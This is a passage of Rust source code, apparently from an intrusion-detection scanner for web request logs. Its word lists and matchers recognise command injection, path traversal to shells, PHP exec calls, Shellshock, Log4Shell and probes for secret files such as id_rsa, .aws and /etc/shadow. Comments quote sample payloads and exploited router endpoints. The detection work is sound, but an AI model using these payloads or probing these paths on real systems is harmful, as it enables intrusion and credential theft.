    let (name, parent) = (
        names.next().unwrap_or_default(),
        names.next().unwrap_or_default(),
    );
    REGISTRY_HIVES.contains(name)
        && (parent.eq_ignore_ascii_case(b"config") || parent.eq_ignore_ascii_case(b"repair"))
}

/// Shells and command interpreters by their file name: a climb that
/// reaches one (`/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir`,
/// `/cgi-bin/.%2e/.%2e/bin/sh`) runs what the request gives it.
static SHELLS: WordSet = WordSet::new(&[
    "sh",
    "ash",
    "cmd",
    "csh",
    "ksh",
    "zsh",
    "bash",
    "dash",
    "tcsh",
    "busybox",
    "cmd.exe",
    "powershell",
    "command.com",
    "powershell.exe",
]);

/// Whether `target`, what a climb reaches, is a shell.
fn runs_shell(target: &[u8]) -> bool {
    let name = target
        .rsplit(|&b| b == b'/' || b == b'\\')
        .next()
        .unwrap_or_default();
    SHELLS.contains(name)
}

/// Whether `text`, a file name or path from a parameter, names a system
/// file (or, as an absolute path, a secret), or uses a file-reading scheme.
fn names_system_file(text: &[u8]) -> bool {
    let text = text.trim_ascii_start();
    let starts = |prefix: &str| starts_with_ignore_case(text, prefix.as_bytes());
    if ["file:", "php://", "phar://", "zip://", "expect://"]
        .iter()
        .any(|p| starts(p))
    {
        return true;
    }
    if matches!(text.first(), Some(b'/' | b'\\'))
        && (["/etc/", "/proc/", "/var/log/", "/root/", "/windows/"]
            .iter()
            .any(|p| starts(p))
            || is_sensitive_path(text))
    {
        return true;
    }
    // A drive letter, then Windows' own files.
    if let [drive, b':', b'/' | b'\\', rest @ ..] = text {
        if drive.is_ascii_alphabetic()
            && [
                "windows", "winnt", "boot.ini", "win.ini", "system32", "inetpub",
            ]
            .iter()
            .any(|name| contains_ignore_case(rest, name.as_bytes()))
        {
            return true;
        }
    }
    [
        "etc/passwd",
        "etc/shadow",
        "etc/hosts",
        "proc/self/",
        "win.ini",
        "boot.ini",
    ]
    .iter()
    .any(|file| contains_ignore_case(text, file.as_bytes()))
}

// ---------------------------------------------------------------------------
// Command injection.

/// What must follow a command for it to count.
#[derive(Clone, Copy, Debug)]
enum Needs {
    /// Nothing: the command alone is the probe (`;id`).
    Nothing,
    /// An argument that looks like a path or an option (`cat /etc/passwd`).
    Path,
    /// Any argument (`echo vulnerable`).
    Argument,
    /// A number (`sleep 5`).
    Number,
    /// An option, an address or a host name (`ping -c 5`, `nc 10.0.0.1`).
    Target,
    /// An option or a path (`python -c …`).
    Option,
}

/// Ordered like a [`WordSet`]'s words.
const COMMANDS: &[(&str, Needs)] = &[
    ("cd", Needs::Path),
    ("cp", Needs::Path),
    ("id", Needs::Nothing),
    ("ln", Needs::Option),
    ("ls", Needs::Path),
    ("mv", Needs::Path),
    ("nc", Needs::Target),
    ("ps", Needs::Nothing),
    ("rm", Needs::Path),
    ("sh", Needs::Nothing),
    ("su", Needs::Option),
    ("wc", Needs::Option),
    ("awk", Needs::Argument),
    ("cat", Needs::Path),
    ("cmd", Needs::Nothing),
    ("csh", Needs::Nothing),
    ("del", Needs::Path),
    ("dig", Needs::Target),
    // Windows' `ls`: alone it is the probe (`8.8.8.8 | dir`).
    ("dir", Needs::Nothing),
    ("env", Needs::Nothing),
    ("ftp", Needs::Target),
    ("ksh", Needs::Nothing),
    ("lua", Needs::Option),
    ("php", Needs::Option),
    ("pwd", Needs::Nothing),
    ("scp", Needs::Nothing),
    ("sed", Needs::Argument),
    ("ssh", Needs::Target),
    ("tac", Needs::Path),
    ("tar", Needs::Option),
    ("xxd", Needs::Path),
    ("zsh", Needs::Nothing),
    ("bash", Needs::Nothing),
    ("curl", Needs::Nothing),
    ("dash", Needs::Nothing),
    ("echo", Needs::Argument),
    ("expr", Needs::Number),
    ("find", Needs::Path),
    ("gawk", Needs::Argument),
    ("grep", Needs::Argument),
    ("gzip", Needs::Option),
    ("head", Needs::Path),
    ("host", Needs::Target),
    ("java", Needs::Option),
    ("kill", Needs::Option),
    ("less", Needs::Path),
    ("lsof", Needs::Nothing),
    ("more", Needs::Path),
    ("ncat", Needs::Nothing),
    ("nmap", Needs::Argument),
    ("node", Needs::Option),
    ("perl", Needs::Option),
    ("ping", Needs::Target),
    ("pwsh", Needs::Nothing),
    ("ruby", Needs::Option),
    ("sudo", Needs::Argument),
    ("tail", Needs::Path),
    ("tftp", Needs::Nothing),
    ("type", Needs::Path),
    ("wget", Needs::Nothing),
    ("wmic", Needs::Nothing),
    ("chmod", Needs::Nothing),
    ("chown", Needs::Argument),
    ("dmesg", Needs::Nothing),
    ("lspci", Needs::Nothing),
    ("mkdir", Needs::Path),
    ("mshta", Needs::Nothing),
    ("nohup", Needs::Nothing),
    ("pkill", Needs::Argument),
    ("rmdir", Needs::Path),
    ("sleep", Needs::Number),
    ("socat", Needs::Nothing),
    ("touch", Needs::Path),
    ("uname", Needs::Nothing),
    ("unzip", Needs::Path),
    ("xargs", Needs::Nothing),
    ("base64", Needs::Option),
    ("chattr", Needs::Nothing),
    ("getent", Needs::Argument),
    ("md5sum", Needs::Path),
    ("mkfifo", Needs::Nothing),
    ("netcat", Needs::Nothing),
    ("printf", Needs::Argument),
    ("python", Needs::Option),
    ("sysctl", Needs::Option),
    ("telnet", Needs::Nothing),
    ("uptime", Needs::Nothing),
    ("whoami", Needs::Nothing),
    ("busybox", Needs::Nothing),
    ("crontab", Needs::Option),
    ("cscript", Needs::Nothing),
    ("hexdump", Needs::Path),
    ("killall", Needs::Argument),
    ("netstat", Needs::Nothing),
    ("openssl", Needs::Argument),
    ("python2", Needs::Option),
    ("python3", Needs::Option),
    ("strings", Needs::Path),
    ("timeout", Needs::Number),
    ("tracert", Needs::Nothing),
    ("useradd", Needs::Argument),
    ("wscript", Needs::Nothing),
    ("certutil", Needs::Nothing),
    ("hostname", Needs::Nothing),
    ("ifconfig", Needs::Nothing),
    ("ipconfig", Needs::Nothing),
    ("iptables", Needs::Nothing),
    ("nslookup", Needs::Nothing),
    ("printenv", Needs::Nothing),
    ("regsvr32", Needs::Nothing),
    ("rundll32", Needs::Nothing),
    ("tasklist", Needs::Nothing),
    ("bitsadmin", Needs::Nothing),
    ("powershell", Needs::Nothing),
    ("systeminfo", Needs::Nothing),
    ("traceroute", Needs::Nothing),
];

fn command_injection(text: &[u8], marks: Marks) -> bool {
    if marks.any(PAREN | HASH | BRACE | QUOTE | DOLLAR) && is_code_gadget(text) {
        return true;
    }
    if !marks.any(SEMI | PIPE | AMP | NEWLINE | BACKTICK | DOLLAR | PAREN) {
        return false;
    }
    if is_shellshock(text) || (marks.any(DOLLAR) && is_log4shell(text)) {
        return true;
    }
    let list_separator = word_list_separator(text);
    let mut i = 0;
    while i < text.len() {
        let separator = match (text[i], text.get(i + 1)) {
            (b'|' | b';', _) if Some(text[i]) == list_separator => 0,
            (b'|', Some(b'|')) | (b'&', Some(b'&')) | (b'$', Some(b'(')) => 2,
            (b';' | b'|' | b'&' | b'\n' | b'\r' | b'`', _) => 1,
            _ => 0,
        };
        if separator > 0 && command_follows(&text[i + separator..]) {
            return true;
        }
        i += separator.max(1);
    }
    false
}

/// `|` or `;` when `text` is a list of plain words joined by it
/// (`name|id|email`, `Roboto|Open Sans`, `a;b;c`) rather than a pipeline:
/// an injection appends one command to one value.
fn word_list_separator(text: &[u8]) -> Option<u8> {
    let separator = match (memchr::memchr(b'|', text), memchr::memchr(b';', text)) {
        (Some(_), None) => b'|',
        (None, Some(_)) => b';',
        _ => return None,
    };
    let mut fields = 0;
    for field in text.split(|&b| b == separator) {
        let plain = field.iter().all(|&b| {
            b.is_ascii_alphanumeric()
                || matches!(b, b' ' | b'_' | b'.' | b',' | b':' | b'@' | b'-' | b'+')
        });
        if field.is_empty() || !plain || field.iter().all(|&b| b == b' ') {
            return None;
        }
        fields += 1;
    }
    (fields >= 3).then_some(separator)
}

/// Whether `rest` (what follows a shell separator) starts with a command
/// and an argument of the shape it needs.
fn command_follows(rest: &[u8]) -> bool {
    command_at(rest).is_some_and(|(needs, arg)| needs_met(needs, arg))
}

/// The command `rest` starts with, and its first argument. The command's
/// own token counts by its last path component (`/bin/sh` runs `sh`),
/// with the quotes that split it for filters taken out (`c'a't` runs
/// `cat`); a Bash brace expansion (`{cat,/etc/passwd}`) separates by
/// commas.
fn command_at(rest: &[u8]) -> Option<(Needs, &[u8])> {
    let rest = skip_shell_space(rest);
    let (rest, brace) = match rest.strip_prefix(b"{") {
        Some(inner) => (inner, true),
        None => (rest, false),
    };
    let token_len = rest
        .iter()
        .position(|&b| {
            !(b.is_ascii_alphanumeric()
                || matches!(b, b'/' | b'\\' | b'.' | b'_' | b'-' | b'\'' | b'"'))
        })
        .unwrap_or(rest.len());
    let token = &rest[..token_len];
    let name = token
        .rsplit(|&b| b == b'/' || b == b'\\')
        .next()
        .unwrap_or(token);
    let mut unquoted = [0u8; 32];
    let mut len = 0;
    for &b in name.iter().filter(|&&b| b != b'\'' && b != b'"') {
        *unquoted.get_mut(len)? = b;
        len += 1;
    }
    let name = strip_suffix_ignore_case(&unquoted[..len], b".exe");
    let needs = lookup(name, COMMANDS)?;
    let after = &rest[token_len..];
    // The command must end there: `;category` is not `;cat`.
    if let Some(&b) = after.first() {
        if !(b.is_ascii_whitespace() || b"$<>|;&`'\")({}#".contains(&b) || (brace && b == b',')) {
            return None;
        }
    }
    let mut argument = skip_shell_space(after);
    if brace {
        argument = argument.strip_prefix(b",").unwrap_or(argument);
    }
    let arg_end = argument
        .iter()
        .position(|&b| {
            b.is_ascii_whitespace() || b"|;&`)".contains(&b) || (brace && b"},".contains(&b))
        })
        .unwrap_or(argument.len());
    Some((needs, &argument[..arg_end]))
}

fn needs_met(needs: Needs, arg: &[u8]) -> bool {
    match needs {
        Needs::Nothing => true,
        Needs::Argument => !arg.is_empty(),
        Needs::Number => arg.first().is_some_and(u8::is_ascii_digit),
        Needs::Path => {
            arg.first().is_some_and(|b| b"/.~-$<\\*".contains(b))
                || arg.contains(&b'/')
                || arg.contains(&b'\\')
                || matches!(arg, [drive, b':', ..] if drive.is_ascii_alphabetic())
        }
        Needs::Target => {
            arg.first() == Some(&b'-')
                || (arg.contains(&b'.') && arg.iter().any(u8::is_ascii_digit))
                || (arg.contains(&b'.')
                    && arg
                        .iter()
                        .all(|b| b.is_ascii_alphanumeric() || b".-".contains(b)))
        }
        Needs::Option => arg.first().is_some_and(|b| b"-/".contains(b)),
    }
}

/// Parameters that web shells and vulnerable tools hand to a shell whole
/// (`shell.php?cmd=id`): there, a command needs no separator before it.
static COMMAND_PARAMETERS: WordSet = WordSet::new(&[
    "c", "cmd", "run", "exec", "shell", "system", "cmdline", "command", "execute",
]);

/// A parameter named like a shell's input whose value starts with a
/// command (`cmd=whoami`, `exec=ls -la`, `cmd=/bin/ls`).
fn is_shell_parameter(name: &[u8], value: &[u8]) -> bool {
    if !COMMAND_PARAMETERS.contains(name) {
        return false;
    }
    let mut decoded = [0u8; 96];
    command_at(value).is_some()
        || base64_decode(value, &mut decoded).is_some_and(|command| command_at(command).is_some())
}

/// `text` decoded as standard base64 (padding optional) into `buf`, or
/// `None` if it is not base64 or does not fit: the NAS CGIs that D-Link
/// and others ship take their command that way (`system=aWQ=`, `id`).
fn base64_decode<'b>(text: &[u8], buf: &'b mut [u8; 96]) -> Option<&'b [u8]> {
    let text = text
        .strip_suffix(b"==")
        .or_else(|| text.strip_suffix(b"="))
        .unwrap_or(text);
    if text.len() < 2 || text.len() * 3 / 4 > buf.len() {
        return None;
    }
    let (mut bits, mut count, mut len) = (0u32, 0, 0);
    for &b in text {
        let six = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        };
        bits = (bits << 6) | u32::from(six);
        count += 6;
        if count >= 8 {
            count -= 8;
            buf[len] = (bits >> count) as u8;
            len += 1;
        }
    }
    Some(&buf[..len])
}

/// PHP functions that run a command or code: a value that names one
/// (ThinkPHP's `function=call_user_func_array`) or calls one on a string
/// or a variable (`system('id')`, `passthru($_GET[c])`) is an exploit.
static PHP_EXEC: WordSet = WordSet::new(&[
    "eval",
    "exec",
    "popen",
    "assert",
    "system",
    "passthru",
    "proc_open",
    "pcntl_exec",
    "shell_exec",
    "call_user_func",
    "create_function",
    "call_user_func_array",
]);

/// PHP code in a value: an opening tag (`<?php`, `<?=`) or a call of one
/// of [`PHP_EXEC`] on a string or a variable.
fn is_php_code(text: &[u8], marks: Marks) -> bool {
    if marks.any(ANGLE)
        && (contains_ignore_case(text, b"<?php")
            || find_pair(text, b'?', b'=').is_some_and(|i| i > 0 && text[i - 1] == b'<'))
    {
        return true;
    }
    if !marks.any(PAREN) {
        return false;
    }
    memchr::memchr_iter(b'(', text).any(|open| {
        let name_start = text[..open]
            .iter()
            .rposition(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
            .map_or(0, |i| i + 1);
        let argument = text[open + 1..].trim_ascii_start();
        PHP_EXEC.contains(&text[name_start..open])
            && matches!(argument.first(), Some(b'\'' | b'"' | b'$' | b'`'))
    })
}

/// A value that is the name of a PHP function that runs code, as passed
/// to a dispatcher (`function=call_user_func_array`); the short names
/// (`system`, `exec`, `eval`, `assert`, `popen`) are ordinary words too.
fn names_php_exec(value: &[u8]) -> bool {
    value.contains(&b'_') && PHP_EXEC.contains(value)
}

/// Skips spaces, tabs and the `${IFS}` / `$IFS` tricks that stand for them.
fn skip_shell_space(mut s: &[u8]) -> &[u8] {
    loop {
        if let [b' ' | b'\t', rest @ ..] = s {
            s = rest;
        } else if starts_with_ignore_case(s, b"${ifs}") {
            s = &s[6..];
        } else if starts_with_ignore_case(s, b"$ifs") {
            s = &s[4..];
        } else {
            return s;
        }
    }
}

/// `() {` opening the text: a Bash function definition, which vulnerable
/// Bash (CVE-2014-6271) executes the rest of.
fn is_shellshock(text: &[u8]) -> bool {
    match text.trim_ascii_start() {
        [b'(', b')', rest @ ..] => rest.trim_ascii_start().first() == Some(&b'{'),
        _ => false,
    }
}

/// A Log4j lookup that fetches code (`${jndi:…}`) or hides one
/// (`${${lower:j}ndi:…}`, `${::-j}`).
fn is_log4shell(text: &[u8]) -> bool {
    find_pair(text, b'$', b'{').is_some()
        && ["jndi", "${lower:", "${upper:", "${::-", "${env:", "${sys:"]
            .iter()
            .any(|needle| contains_ignore_case(text, needle.as_bytes()))
}

// ---------------------------------------------------------------------------
// Sensitive files.

/// How code-hosting sites show a repository's files, as the third segment
/// of the path (after the owner and the repository, and GitLab's `-`):
/// the rendered view (`blob`, `tree`, `blame`, Gitea's and Bitbucket's
/// `src`), the file itself (`raw`), its history and editor, and
/// `raw.githubusercontent.com`'s `refs/heads/<branch>/…`.
static REPOSITORY_VIEWS: WordSet = WordSet::new(&[
    "raw", "src", "blob", "edit", "refs", "tree", "blame", "commits", "history",
]);

/// Whether `path` is a file shown by a code-hosting site's repository
/// viewer: `/owner/repo/blob/main/.env.example`, `/owner/repo/raw/main/
/// config.json` (GitHub, Gitea, Bitbucket), `/group/project/-/raw/…`
/// (GitLab), `/owner/repo/src/branch/…` (Gitea). Dotfiles and config
/// files there are a repository's contents on a page, not the web
/// server's own files; a probe asks for those from the root or an
/// application's directory, not under `owner/repo/<view>/<ref>/`.
fn in_repository_viewer(path: &[u8]) -> bool {
    let mut segments = path.split(|&b| b == b'/').filter(|s| !s.is_empty());
    let (Some(_owner), Some(_repo), Some(mut view)) =
        (segments.next(), segments.next(), segments.next())
    else {
        return false;
    };
    if view == b"-" {
        view = segments.next().unwrap_or_default();
    }
    REPOSITORY_VIEWS.contains(view) && segments.nth(1).is_some()
}

/// Whether the sensitive look of `raw`, a path as sent, comes only from
/// slashes sent percent-encoded (`/wiki/%2Fetc%2Fpasswd`): an encoded
/// slash is data inside one segment (RFC 3986) — a page title, an
/// identifier — not a directory, so that segment names a page, not a
/// system file. Climbs (`..%2f..%2fetc%2fpasswd`) are judged apart. Only
/// called on paths already found sensitive, so the second decoding is off
/// the hot path.
fn names_a_page(raw: &[u8]) -> bool {
    let encoded_slash = |i: usize| {
        matches!(
            raw.get(i + 1..i + 3),
            Some([b'2', b'f' | b'F'] | [b'5', b'c' | b'C'])
        )
    };
    if !memchr::memchr_iter(b'%', raw).any(encoded_slash) {
        return false;
    }
    let mut stack = [0u8; STACK_BYTES];
    let Some(buf) = stack.get_mut(..raw.len()) else {
        return false;
    };
    buf.copy_from_slice(raw);
    // Each encoded slash becomes DEL, which no rule reads as a separator.
    for i in memchr::memchr_iter(b'%', raw).filter(|&i| encoded_slash(i)) {
        buf[i + 1..i + 3].copy_from_slice(b"7F");
    }
    let len = decode_in_place(buf, false);
    !is_sensitive_path(&buf[..len])
}

/// Whether the request names its referring page: what a page's own
/// scripts and assets carry, and probes do not.
fn has_referer(referer: &str) -> bool {
    !referer.is_empty() && referer != "-"
}

/// Names of JSON files that hold an application's configuration: the
/// word before `.json` (`config.json`, `app.config.json`), or the whole
/// stem (Azure Functions' `local.settings.json`). `settings.json` alone is
/// left out: Rails-style APIs serve a `settings` resource as
/// `/settings.json`.
static JSON_CONFIG_STEMS: WordSet = WordSet::new(&["config", "configuration", "local.settings"]);

/// Directories where sites serve configuration to their own clients: a
/// front end's assets, and APIs.
static CLIENT_DIRECTORIES: WordSet = WordSet::new(&[
    "js", "api", "_next", "_nuxt", "build", "assets", "static", "bundles", "scripts",
]);

/// `/config.json`, `/wp/config.json`, `/local.settings.json`: an
/// application's configuration in JSON, which scanners ask every site for.
/// A single-page app may load its own runtime configuration under such a
/// name, and an API may serve it to its clients, so it counts neither
/// under a front-end asset directory or an API (`/assets/config.json`,
/// `/static/…`, `/api/…`) nor when a page asked for it (the caller checks
/// for a referer): a probe comes from nowhere.
fn is_server_json_config(path: &[u8]) -> bool {
    let slash = memchr::memrchr(b'/', path).unwrap_or(0);
    let name = &path[(slash + 1).min(path.len())..];
    if !ends_with_ignore_case(name, b".json") {
        return false;
    }
    let stem = &name[..name.len() - 5];
    let last_word = &stem[memchr::memrchr(b'.', stem).map_or(0, |dot| dot + 1)..];
    (JSON_CONFIG_STEMS.contains(last_word) || JSON_CONFIG_STEMS.contains(stem))
        && !path[..slash]
            .split(|&b| b == b'/')
            .any(|directory| CLIENT_DIRECTORIES.contains(directory))
}

/// Endpoints that run what the request body carries: those of routers
/// and cameras that hand a parameter to a shell (GPON's
/// `/GponForm/diag_Form`, Netlink's `/boaform/admin/formPing`, Huawei
/// HG532's `/ctrlt/DeviceUpgrade_1`, Realtek's UPnP `/picsdesc.xml`,
/// Linksys' `/tmUnblock.cgi`), which Mirai-family botnets post their
/// droppers to, and the PHP code runners left in web applications
/// (PHPUnit's `eval-stdin.php`, Laravel Ignition's
/// `/_ignition/execute-solution`). The command travels in the body, which
/// the log does not have; no site serves these names to its visitors, so
/// the request for one is the exploit.
static EXPLOIT_ENDPOINTS: WordSet = WordSet::new(&[
    "formping",
    "diag_form",
    "picsdesc.xml",
    "tmunblock.cgi",
    "eval-stdin.php",
    "deviceupgrade_1",
    "execute-solution",
]);

/// Build recipes of a source tree, by their whole name: a site that
/// serves one serves its repository.
static REPOSITORY_FILES: WordSet = WordSet::new(&["dockerfile", "jenkinsfile", "vagrantfile"]);

/// Whether a (decoded) path asks for a secret, VCS metadata, a backup or
/// dump, or an admin or debug endpoint.
fn is_sensitive_path(path: &[u8]) -> bool {
    // `/.git;/config`, `/.env;.js`, `/.env%00.js`: what servers and
    // filters see differently ends at `;` or NUL.
    let cut = memchr::memchr2(b';', 0, path).is_some();
    let mut previous: &[u8] = b"";
    let mut segments = path.split(|&b| b == b'/' || b == b'\\').peekable();
    while let Some(segment) = segments.next() {
        let segment = match segment.iter().position(|&b| cut && (b == b';' || b == 0)) {
            Some(end) => &segment[..end],
            None => segment,
        };
        let last = segments.peek().is_none();
        if is_sensitive_name(segment)
            || is_sensitive_pair(previous, segment)
            || (last
                && (is_backup_name(segment)
                    || REPOSITORY_FILES.contains(segment)
                    || (BACKUP_DIRECTORIES.contains(previous) && is_archive(segment))))
        {
            return true;
        }
        previous = segment;
    }
    false
}

/// Products whose whole tree is an admin or debug interface when it sits at
/// the root of a site: Nacos (`/nacos/v1/auth/users`), Laravel Telescope
/// (`/telescope/requests`). Deeper in a site these are ordinary words.
static ROOT_TREES: WordSet = WordSet::new(&["nacos", "telescope"]);

/// Endpoints that are an admin or debug interface when requested alone at
/// the root: Jenkins' script console (`/script`), Spring Boot 1's
/// unprefixed actuators (`/env`, `/configprops`, `/autoconfig`) and
/// Boot 2's index of them (`/actuator`). `/script/app.js` is a site's
/// asset directory and `/actuator/health` a health check.
static ROOT_PAGES: WordSet =
    WordSet::new(&["env", "script", "actuator", "autoconfig", "configprops"]);

/// `/console`, `/console/`, `/console/login/…` — the admin console that
/// WebLogic, Werkzeug's debugger and others put at the root of a site —
/// and the rest of [`ROOT_TREES`] and [`ROOT_PAGES`]. A console deeper in
/// a site (a build's log page, a shop's category) is an ordinary page, and
/// so is `/console` as a parameter's value (where to go after signing
/// in): only a request path is checked.
fn is_root_endpoint(path: &[u8]) -> bool {
    let Some(rest) = path.strip_prefix(b"/") else {
        return false;
    };
    let end = rest.iter().position(|&b| b == b'/').unwrap_or(rest.len());
    let (first, after) = (&rest[..end], &rest[end..]);
    if ROOT_TREES.contains(first) {
        return true;
    }
    if after.is_empty() || after == b"/" {
        return ROOT_PAGES.contains(first) || first.eq_ignore_ascii_case(b"console");
    }
    first.eq_ignore_ascii_case(b"console") && starts_with_ignore_case(after, b"/login")
}

/// Files and directories that are secrets or internals wherever they are.
static SENSITIVE_NAMES: WordSet = WordSet::new(&[
    ".hg",
    ".aws",
    ".bzr",
    ".cvs",
    ".ssh",
    ".svn",
    "_cat",
    ".boto",
    ".idea",
    ".kube",
    ".netrc",
    ".npmrc",
    ".s3cfg",
    "_nodes",
    "_utils",
    "hawtio",
    "id_dsa",
    "id_rsa",
    ".docker",
    ".my.cnf",
    ".pgpass",
    ".pypirc",
    ".vscode",
    "_config",
    "jolokia",
    "myadmin",
    "updraft",
    "web-inf",
    "_all_dbs",
    "_cluster",
    "heapdump",
    "id_ecdsa",
    "info.php",
    "jkstatus",
    "meta-inf",
    "printenv",
    "test-cgi",
    "test.cgi",
    ".ds_store",
    ".htaccess",
    ".htdigest",
    ".htpasswd",
    ".user.ini",
    "__debug__",
    "_all_docs",
    "_debugbar",
    "_ignition",
    "_profiler",
    "_snapshot",
    "backup-db",
    "db-backup",
    "db_backup",
    "debug.log",
    "elmah.axd",
    "error.log",
    "error_log",
    "jkmanager",
    "trace.axd",
    ".dockercfg",
    ".dockerenv",
    ".ftpconfig",
    "h2-console",
    "id_ed25519",
    "master.key",
    "mysqladmin",
    "phppgadmin",
    "scripttext",
    "threaddump",
    "web.config",
    "ws_ftp.ini",
    ".travis.yml",
    "__clockwork",
    "_wpeprivate",
    "adminer.php",
    "app_dev.php",
    "glimpse.axd",
    "jmx-console",
    "known_hosts",
    "laravel.log",
    "phpinfo.php",
    "printenv.pl",
    "runningpods",
    "secrets.yml",
    "server-info",
    "web-console",
    ".zsh_history",
    "database.yml",
    "nginx_status",
    "secrets.json",
    ".bash_history",
    ".psql_history",
    "admin-console",
    "ai1wm-backups",
    "composer.json",
    "composer.lock",
    "filezilla.xml",
    "server-status",
    "wp-config.php",
    ".gitlab-ci.yml",
    ".mysql_history",
    "config_dev.php",
    "parameters.yml",
    "application.yml",
    "authorized_keys",
    ".git-credentials",
    "appsettings.json",
    "balancer-manager",
    "credentials.json",
    "sftp-config.json",
    "localsettings.php",
    "docker-compose.yml",
    "backupbuddy_backups",
    "docker-compose.yaml",
    "application.properties",
]);

fn is_sensitive_name(segment: &[u8]) -> bool {
    let Some(first) = segment.first() else {
        return false;
    };
    let starts = |prefix: &[u8]| starts_with_ignore_case(segment, prefix);
    SENSITIVE_NAMES.contains(segment)
        || is_config_file(segment)
        || match first.to_ascii_lowercase() {
            // Dotfiles and dot-directories — `.env.local`, `.git/`,
            // `.circleci/`, `.bashrc`, `.DS_Store` — hold configuration,
            // history, credentials and VCS metadata; sites serve none of
            // them but the few meant for clients.
            b'.' => {
                segment
                    .get(1)
                    .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
                    && !PUBLIC_DOT_DIRECTORIES.contains(segment)
            }
            // `wp-config.php.bak`, `wp-config.old`.
            b'w' => starts(b"wp-config"),
            // `phpMyAdmin-5.2.1`, and its usual aliases `pma`, `PMA2020`.
            b'p' => {
                starts(b"phpmyadmin")
                    || (starts(b"pma") && segment[3..].iter().all(u8::is_ascii_digit))
                    || is_phpinfo(segment)
            }
            // `adminer-4.8.1.php`.
            b'a' => starts(b"adminer"),
            _ => false,
        }
}

/// `phpinfo`, `phpinfo.php`, `phpinfo2.php`, `phpinfo_test.php5`,
/// `php_info.php`: a script
/// that prints PHP's configuration, by a file's name. A page's slug
/// (`phpinfo-explained`, words joined by `-`, no extension) is writing
/// about it.
fn is_phpinfo(segment: &[u8]) -> bool {
    let rest = if starts_with_ignore_case(segment, b"phpinfo") {
        &segment[7..]
    } else if starts_with_ignore_case(segment, b"php_info") {
        &segment[8..]
    } else {
        return false;
    };
    rest.iter().all(u8::is_ascii_digit) || rest.contains(&b'.')
}

/// Dot-directories that exist to be fetched: RFC 8615's `.well-known`,
/// and the endpoints hosting platforms put on every site (Azure App
/// Service's `.auth`, Netlify's `.netlify`).
static PUBLIC_DOT_DIRECTORIES: WordSet = WordSet::new(&[".auth", ".netlify", ".well-known"]);

/// Extensions of configuration files.
static CONFIG_EXTENSIONS: WordSet = WordSet::new(&[
    "py",
    "cfg",
    "env",
    "inc",
    "ini",
    "php",
    "yml",
    "conf",
    "toml",
    "yaml",
    "properties",
]);

/// Extensions of files that are configuration by their format alone.
static CONFIG_FORMAT_EXTENSIONS: WordSet = WordSet::new(&["cnf", "ini", "conf"]);

/// Names of files that hold credentials whatever their format.
static SECRET_STEMS: WordSet = WordSet::new(&[
    "secret",
    "secrets",
    "database",
    "parameters",
    "appsettings",
    "credentials",
    "local_settings",
    "settings_local",
    "connectionstrings",
]);

/// Names of an application's configuration.
static CONFIG_STEMS: WordSet = WordSet::new(&[
    "app",
    "dev",
    "prod",
    "local",
    "config",
    "staging",
    "settings",
    "production",
    "application",
    "development",
    "configuration",
]);

/// A configuration file by its name (what comes before the first dot) and
/// extension: `config.yml`, `settings.py`, `config.inc.php`,
/// `appsettings.Development.json`, `secrets.json`. Configuration stems
/// count with configuration formats; secret stems with any (`json` and
/// `xml` too). `config.js` is front-end code, `app.php` a front controller.
fn is_config_file(name: &[u8]) -> bool {
    // Segments are short: a plain loop beats a call to memchr.
    let Some(dot) = name.iter().position(|&b| b == b'.') else {
        return false;
    };
    let stem = &name[..dot];
    let extension = &name[memchr::memrchr(b'.', name).unwrap_or(dot) + 1..];
    let inner = name[dot + 1..].split(|&b| b == b'.').next().unwrap_or(b"");
    // `php.ini`, `my.cnf`, `nginx.conf`: formats that hold nothing but
    // configuration, whatever the name.
    if SECRET_STEMS.contains(stem) || CONFIG_FORMAT_EXTENSIONS.contains(extension) {
        return true;
    }
    CONFIG_STEMS.contains(stem)
        && (CONFIG_EXTENSIONS.contains(inner) || CONFIG_EXTENSIONS.contains(extension))
        && !(extension.eq_ignore_ascii_case(b"php")
            && !(inner.eq_ignore_ascii_case(b"inc")
                || [&b"config"[..], b"configuration", b"settings"]
                    .iter()
                    .any(|s| stem.eq_ignore_ascii_case(s))))
}

/// Spring Boot actuator endpoints that leak secrets or state (`health` and
/// `info` are fine).
static ACTUATOR_ENDPOINTS: WordSet = WordSet::new(&[
    "env",
    "dump",
    "beans",
    "trace",
    "caches",
    "flyway",
    "gateway",
    "jolokia",
    "logfile",
    "loggers",
    "metrics",
    "refresh",
    "restart",
    "heapdump",
    "mappings",
    "sessions",
    "shutdown",
    "httptrace",
    "liquibase",
    "autoconfig",
    "conditions",
    "threaddump",
    "auditevents",
    "configprops",
    "scheduledtasks",
]);

/// The parents [`is_sensitive_pair`] knows: one lookup turns the rest away.
static SENSITIVE_PARENTS: WordSet = WordSet::new(&[
    "v1",
    "v2",
    "etc",
    "proc",
    "solr",
    "agent",
    "debug",
    "druid",
    "rails",
    "manage",
    "system",
    "horizon",
    "jenkins",
    "manager",
    "actuator",
    "containers",
    "management",
    "host-manager",
]);

/// The consoles of Alibaba's Druid connection pool (`/druid/index.html`,
/// `/druid/websession.html`, …) and Apache Druid's APIs.
static DRUID_PAGES: WordSet = WordSet::new(&[
    "indexer",
    "sql.html",
    "basic.json",
    "index.html",
    "login.html",
    "coordinator",
    "spring.html",
    "weburi.html",
    "datasource.html",
    "websession.html",
]);

/// Resources of Kubernetes' API (`/api/v1/namespaces`), Consul's
/// (`/v1/kv/`) and Vault's (`/v1/sys/`), which hand out a cluster's
/// secrets and state when left open.
static CLUSTER_RESOURCES: WordSet = WordSet::new(&[
    "kv",
    "sys",
    "pods",
    "secrets",
    "configmaps",
    "namespaces",
    "serviceaccounts",
]);

/// Jenkins' pages that run code or show secrets.
static JENKINS_PAGES: WordSet = WordSet::new(&["manage", "script", "scripttext", "credentials"]);

/// The pages of Tomcat's manager and host manager.
static TOMCAT_MANAGER_PAGES: WordSet = WordSet::new(&["html", "text", "status", "jmxproxy"]);

/// Files under `/etc` worth stealing (and Magento's `app/etc` secrets).
static ETC_FILES: WordSet = WordSet::new(&[
    "group",
    "passwd",
    "shadow",
    "env.php",
    "sudoers",
    "local.xml",
]);

/// Endpoints that are only sensitive under a given parent: actuators
/// (`/actuator/env`), Go's profiler (`/debug/pprof`), Tomcat's manager
/// (`/manager/html`), `/etc/passwd`, `/proc/self`.
fn is_sensitive_pair(parent: &[u8], name: &[u8]) -> bool {
